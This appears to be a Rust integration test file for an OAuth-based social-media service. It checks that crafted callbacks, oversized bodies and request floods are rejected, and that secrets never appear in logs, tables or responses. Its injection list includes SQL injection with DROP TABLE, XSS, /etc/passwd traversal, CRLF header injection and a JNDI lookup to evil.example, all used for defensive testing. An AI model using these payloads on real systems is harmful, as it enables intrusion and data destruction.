//! Hostile callers and secret hygiene.

use std::{
    collections::BTreeMap,
    time::{Duration, Instant},
};

use jobs::{
    AccountId, Secret,
};
use serde_json::Value;
use testkit::{
    Backend, TestDb, eventually,
    platform::{SandboxServer, param},
};

use crate::{
    NEVER, assert_no_plaintext, count, hex, issued_secrets, logs, pg, report,
    support::{Proc, fleet::{Fleet, take_turn}},
};

// 6 ─────────────────────────────────────────────────────────────────────────────────────────────

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn hostile_input() {
    let db = TestDb::new(Backend::Postgres).await;
    let sb = SandboxServer::start().await;
    let jwt_secret = hex(32);
    let fleet = Fleet::new(&db.url, &sb, &[]);
    let limit = 100;
    let (_api, url) = fleet.api(&[
        ("JWT_SECRET", &jwt_secret),
        ("TRUSTED_PROXIES", "127.0.0.1"),
        ("RATE_LIMITS", &format!("general={limit}/10m")),
        ("MAX_BODY_BYTES", "65536"),
    ]);
    let token = api::auth::Jwt::new(&Secret::from(jwt_secret.as_str())).issue("user-1", 3600);
    let http = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let mut answered: BTreeMap<u16, usize> = BTreeMap::new();
    let check = |answered: &mut BTreeMap<u16, usize>, what: &str, status: u16, body: &Value, want: u16, code: &str| {
        *answered.entry(status).or_default() += 1;
        assert_eq!((status, body["error"]["code"].as_str()), (want, Some(code)), "{what}: {body}");
    };
    let call = |req: reqwest::RequestBuilder| async move {
        let resp = req.header("x-forwarded-for", "198.51.100.1").send().await.unwrap();
        let status = resp.status().as_u16();
        (status, resp.json::<Value>().await.unwrap_or(Value::Null))
    };
    let state_for = |platform: &'static str| {
        let (http, url, token) = (http.clone(), url.clone(), token.clone());
        async move {
            let resp = http.post(format!("{url}/api/v1/social-media/{platform}/connect")).bearer_auth(token).header("x-forwarded-for", "198.51.100.1").send().await.unwrap();
            let body: Value = resp.json().await.unwrap();
            param(&url::Url::parse(body["authorization_url"].as_str().unwrap()).unwrap(), "state").unwrap()
        }
    };

    // Crafted callbacks.
    let cb = |platform: &str, query: &str| http.get(format!("{url}/api/v1/social-media/{platform}/callback?{query}"));
    let state = state_for("tiktok").await;
    let q = |code: &str, state: &str| format!("code={}&state={}", urlencode(code), urlencode(state));
    let (s, b) = call(cb("tiktok", "")).await;
    check(&mut answered, "no code, no state", s, &b, 400, "OAUTH_STATE_INVALID");
    let (s, b) = call(cb("tiktok", &format!("code=abc&state={}", "s".repeat(5000)))).await;
    check(&mut answered, "oversized state", s, &b, 400, "OAUTH_STATE_INVALID");
    let (s, b) = call(cb("tiktok", &q(&"c".repeat(5000), &state))).await;
    check(&mut answered, "oversized code", s, &b, 400, "INVALID_REQUEST");
    let (s, b) = call(cb("instagram", &q("abc", &state))).await;
    check(&mut answered, "another platform's state", s, &b, 400, "OAUTH_STATE_INVALID");
    let injections = [
        "' OR '1'='1",
        "'; DROP TABLE social_accounts; --",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "abc\r\nSet-Cookie: pwned=1",
        "abc\u{0}def",
        "${jndi:ldap://evil.example/x}",
        "{{7*7}}",
        "%00%0a",
        "𝓬𝓸𝓭𝓮",
    ];
    for code in injections {
        let (s, b) = call(cb("tiktok", &q(code, &state))).await;
        check(&mut answered, &format!("code {code:?}"), s, &b, 400, "INVALID_REQUEST");
    }
    // None of those spent the state; the genuine callback takes it, and a replay is refused.
    let (s, _) = call(cb("tiktok", &q("genuine-code_1", &state))).await;
    assert_eq!(s, 303, "the state survived the crafted callbacks");
    let (s, b) = call(cb("tiktok", &q("genuine-code_1", &state))).await;
    check(&mut answered, "replayed state", s, &b, 400, "OAUTH_STATE_INVALID");
    let crafted = answered.values().sum::<usize>();

    // Oversized bodies.
    let big = "x".repeat(1 << 20);
    let (s, b) = call(http.post(format!("{url}/api/v1/social-media/accounts/1/sync")).bearer_auth(&token).header("content-type", "application/json").body(big.clone())).await;
    check(&mut answered, "1 MiB body", s, &b, 413, "PAYLOAD_TOO_LARGE");
    let (s, b) = call(http.post(format!("{url}/api/v1/social-media/tiktok/connect")).bearer_auth(&token).header("content-type", "application/json").body(big)).await;
    check(&mut answered, "1 MiB body on connect", s, &b, 413, "PAYLOAD_TOO_LARGE");

    // 1 000 fast requests from one address, 16 at a time, while another client keeps calling.
    let flood = |ip: &'static str| {
        let (http, url, token) = (http.clone(), url.clone(), token.clone());
        async move {
            let resp = http.get(format!("{url}/api/v1/social-media/accounts")).bearer_auth(token).header("x-forwarded-for", ip).send().await.unwrap();
            let status = resp.status().as_u16();
            let retry_after = resp.headers().contains_key("retry-after");
            let body: Value = resp.json().await.unwrap_or(Value::Null);
            (status, retry_after, body["error"]["code"].as_str().map(str::to_owned))
        }
    };
    let started = Instant::now();
    let gate = std::sync::Arc::new(tokio::sync::Semaphore::new(16));
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..1000 {
        let (gate, f) = (gate.clone(), flood("203.0.113.7"));
        tasks.spawn(async move {
            let _p = gate.acquire().await.unwrap();
            (true, i, f.await)
        });
        if i % 20 == 0 {
            tasks.spawn({
                let f = flood("192.0.2.44");
                async move { (false, i, f.await) }
            });
        }
    }
    let results = tasks.join_all().await;
    let took = started.elapsed();
    let flooder: Vec<_> = results.iter().filter(|r| r.0).map(|r| &r.2).collect();
    let other: Vec<_> = results.iter().filter(|r| !r.0).map(|r| &r.2).collect();
    let served = flooder.iter().filter(|r| r.0 == 200).count();
    let limited = flooder.iter().filter(|r| r.0 == 429 && r.1 && r.2.as_deref() == Some("RATE_LIMIT_EXCEEDED")).count();
    let other_ok = other.iter().filter(|r| r.0 == 200).count();
    let server_errors = results.iter().filter(|r| r.2.0 >= 500).count() + answered.keys().filter(|s| **s >= 500).count();
    report(
        "hostile_input",
        "6. Hostile input: crafted callbacks, oversized bodies, a flood from one address",
        &format!(
            "{crafted} crafted callbacks (missing, oversized, replayed, wrong-platform state; {} injection strings in the code) → 4xx JSON; 1 MiB bodies → 413 JSON; \
             1000 requests from one address in {:.1} s: {served} served, {limited} limited (429 JSON + Retry-After) at general={limit}/10m; \
             the other client meanwhile: {other_ok} of {} served; {server_errors} 5xx. (schemathesis: scripts/schemathesis, in CI)",
            injections.len(),
            took.as_secs_f64(),
            other.len()
        ),
    );
    assert_eq!(served, limit, "the flooding address gets its budget, to the request");
    assert_eq!(served + limited, 1000, "every other request is limited with a JSON 429 and Retry-After");
    assert_eq!(other_ok, other.len(), "the other client is still served");
    assert_eq!(server_errors, 0);
}

fn urlencode(s: &str) -> String {
    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

// 7 ─────────────────────────────────────────────────────────────────────────────────────────────

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn secret_hygiene() {
    let _turn = take_turn();
    let db = TestDb::new(Backend::Postgres).await;
    let sb = SandboxServer::start().await;
    let (jwt_secret, cron_secret, ops_password) = (hex(32), hex(32), format!("ops-{}", hex(8)));
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let bind = format!("127.0.0.1:{port}");
    // Workers exchange codes with the redirect URI the API announced: they share BIND_ADDR.
    let fleet = Fleet::new(&db.url, &sb, &[("BIND_ADDR", &bind), ("CRON_REFRESH", NEVER), ("CRON_SYNC", NEVER), ("PACING_INSTAGRAM_MS", "20")]);
    let debug = "debug,sqlx=info,hyper=info,hyper_util=info,reqwest=info,h2=info,rustls=info,poem=info";
    let (api, url) = fleet.api(&[("JWT_SECRET", &jwt_secret), ("CRON_JOB_SECRET", &cron_secret), ("OPS_PASSWORD", &ops_password), ("RUST_LOG", debug)]);
    let worker_env: Vec<(String, String)> = fleet.env.iter().cloned().chain([("RUST_LOG".to_string(), debug.to_string())]).collect();
    let spawn_worker = || {
        let env: Vec<(&str, &str)> = worker_env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let mut p = Proc::spawn(fleet.dir.path(), &["worker", "--no-migrate"], &env);
        p.wait_for_line(Duration::from_secs(60), |l| l.contains("worker started"));
        p
    };
    let mut workers = [spawn_worker(), spawn_worker()];
    let token = api::auth::Jwt::new(&Secret::from(jwt_secret.as_str())).issue("creator-1", 3600);
    let http = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let mut seen: Vec<(String, String)> = vec![];
    macro_rules! keep {
        ($what:expr, $resp:expr) => {{
            let resp = $resp.send().await.unwrap();
            let status = resp.status().as_u16();
            let text = resp.text().await.unwrap();
            seen.push((format!("response of {}", $what), text.clone()));
            (status, serde_json::from_str::<Value>(&text).unwrap_or(Value::Null))
        }};
    }

    // Connect every demo account through the API, as a user's browser would.
    let mut states = vec![];
    for (platform, username) in [("instagram", "acme_studio"), ("instagram", "sunny.bakes"), ("tiktok", "dance.daily"), ("tiktok", "quickrecipes"), ("tiktok", "van.life.lena")] {
        let (_, started) = keep!("connect", http.post(format!("{url}/api/v1/social-media/{platform}/connect")).bearer_auth(&token));
        let authorize = started["authorization_url"].as_str().unwrap();
        states.push(param(&url::Url::parse(authorize).unwrap(), "state").unwrap());
        let redirect = sb.consent(authorize, &sb.account_id(username).await, true).await;
        let (status, _) = keep!("callback", http.get(redirect.as_str()));
        assert_eq!(status, 303);
    }
    let list = || keep_list(&http, &url, &token);
    eventually(Duration::from_secs(90), "five accounts connected and synced", || async {
        let l = list().await;
        l.as_array().is_some_and(|a| a.len() == 5 && a.iter().all(|x| x["last_synced_at"].is_string()))
    })
    .await;
    let accounts = list().await;
    let id_of = |name: &str| accounts.as_array().unwrap().iter().find(|a| a["username"] == name).unwrap()["id"].as_i64().unwrap();
    // Renewals by hand (ops' trigger): TikTok rotates the refresh token on each.
    for name in ["dance.daily", "quickrecipes", "van.life.lena"] {
        let (status, _) = keep!("refresh run", http.post(format!("{url}/api/v1/jobs/token-refresh/run?account_id={}", id_of(name))).header("x-cron-secret", &cron_secret));
        assert_eq!(status, 200);
    }
    eventually(Duration::from_secs(60), "the TikTok accounts refreshed", || async {
        count(&db, "SELECT COUNT(*) FROM social_accounts WHERE platform = 'tiktok' AND last_refreshed_at IS NOT NULL").await == 3
    })
    .await;

    // Two accounts' sealed tokens swapped: each is bound to its own account, so neither opens.
    let (x, y) = (id_of("dance.daily"), id_of("quickrecipes"));
    sqlx::query(
        "UPDATE social_accounts a SET access_token_enc = b.access_token_enc, refresh_token_enc = b.refresh_token_enc
         FROM social_accounts b WHERE (a.id, b.id) IN (($1, $2), ($2, $1))",
    )
    .bind(x)
    .bind(y)
    .execute(pg(&db))
    .await
    .unwrap();
    let z = id_of("van.life.lena");
    let before = db.store.account(AccountId(z)).await.unwrap().unwrap().last_synced_at;
    for id in [x, y, z] {
        let (status, _) = keep!("sync request", http.post(format!("{url}/api/v1/social-media/accounts/{id}/sync")).bearer_auth(&token));
        assert_eq!(status, 202);
    }
    eventually(Duration::from_secs(60), "the swapped accounts flagged, the other synced again", || async {
        let l = list().await;
        let get = |id: i64| l.as_array().unwrap().iter().find(|a| a["id"] == id).cloned().unwrap();
        [x, y].iter().all(|id| get(*id)["status"] == "reauth_required")
            && db.store.account(AccountId(z)).await.unwrap().unwrap().last_synced_at > before
    })
    .await;
    let after = list().await;
    let flagged: Vec<String> = after.as_array().unwrap().iter().filter(|a| a["id"] == x || a["id"] == y).map(|a| format!("{}: {}", a["status"], a["last_error"])).collect();
    for a in after.as_array().unwrap().iter().filter(|a| a["id"] == x || a["id"] == y) {
        assert_eq!(a["last_error"], "token_unreadable", "the account says why: {a}");
    }
    seen.push(("accounts list".into(), after.to_string()));

    // Everything a user and an operator can read.
    for path in ["/api/v1/social-media/accounts", "/api/v1/notifications", &format!("/api/v1/social-media/accounts/{z}/stats")] {
        keep!(path, http.get(format!("{url}{path}")).bearer_auth(&token));
    }
    let signed_in = http.post(format!("{url}/dashboard/login")).form(&[("password", ops_password.as_str())]).send().await.unwrap();
    let cookie = signed_in.headers().get("set-cookie").expect("signed in").to_str().unwrap().split(';').next().unwrap().to_owned();
    let job_ids: Vec<String> = sqlx::query_scalar("SELECT id FROM apalis.jobs ORDER BY id").fetch_all(pg(&db)).await.unwrap();
    let mut pages: Vec<String> = ["/", "/jobs", "/jobs?state=dead", "/accounts", "/workers", "/cron", "/health"].iter().map(|p| p.to_string()).collect();
    pages.extend(job_ids.iter().map(|id| format!("/jobs/{id}")));
    for page in &pages {
        let (status, _) = keep!(format!("dashboard {page}"), http.get(format!("{url}/dashboard{page}")).header("cookie", &cookie));
        assert_eq!(status, 200, "dashboard {page}");
    }
    keep!("metrics", http.get(format!("{url}/metrics")));

    let alive = workers.iter_mut().map(|w| usize::from(w.running())).sum::<usize>();
    let mut secrets = issued_secrets(&sb).await;
    let ours = [jwt_secret.clone(), cron_secret.clone(), ops_password.clone(), token.to_string()];
    secrets.extend(ours.iter().cloned());
    secrets.extend(fleet.env.iter().filter(|(k, _)| k == "ENCRYPTION_KEY").map(|(_, v)| v.clone()));
    let process_logs = logs(&[&api, &workers[0], &workers[1]], "process");
    let responses = seen.len();
    let mut texts = seen;
    texts.extend(process_logs.iter().cloned());
    let mut scanned = assert_no_plaintext(&db, &secrets, &texts).await;
    // An OAuth state goes to the user's browser in the connect answer; it is kept only hashed.
    scanned += assert_no_plaintext(&db, &states, &process_logs).await;
    report(
        "secret_hygiene",
        "7. Secret hygiene: logs (debug level), every table, API and dashboard responses; swapped sealed tokens",
        &format!(
            "{scanned} secrets ({} issued by the sandbox, plus ours and the OAuth states) searched in 3 debug logs, every table and {responses} responses: 0 found; \
             swapped tokens: {} — {alive} of 2 workers still running, the third account synced again",
            scanned - ours.len() - states.len() - 1,
            flagged.join(", ")
        ),
    );
    assert_eq!(alive, 2, "nothing crashed");
}

async fn keep_list(http: &reqwest::Client, url: &str, token: &impl std::fmt::Display) -> Value {
    http.get(format!("{url}/api/v1/social-media/accounts")).bearer_auth(token).send().await.unwrap().json().await.unwrap()
}
